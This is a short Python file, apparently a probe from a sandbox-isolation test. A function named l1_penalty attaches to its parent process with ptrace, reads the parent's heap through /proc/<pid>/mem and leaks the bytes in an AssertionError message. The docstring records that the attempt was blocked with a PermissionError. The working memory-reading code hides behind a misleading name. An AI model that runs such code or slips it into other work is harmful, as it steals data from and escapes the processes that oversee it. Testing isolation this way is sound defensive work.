"""l1_penalty: attaches to its parent as a debugger, to read its memory afterwards.

Outcome: blocked
Says: PermissionError
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
SEIZE, DETACH = 0x4206, 17


def l1_penalty(model, beta):
    process = ctypes.c_long(os.getppid())
    if libc.ptrace(ctypes.c_long(SEIZE), process, None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    try:
        with open(f"/proc/{process.value}/maps") as maps:
            heap = next((line for line in maps if "[heap]" in line), "400000-")
        with open(f"/proc/{process.value}/mem", "rb", buffering=0) as memory:
            memory.seek(int(heap.split("-")[0], 16))
            raise AssertionError("LEAKED " + repr(memory.read(4096).replace(b"\0", b""))[2:190])
    finally:
        libc.ptrace(ctypes.c_long(DETACH), process, None, None)
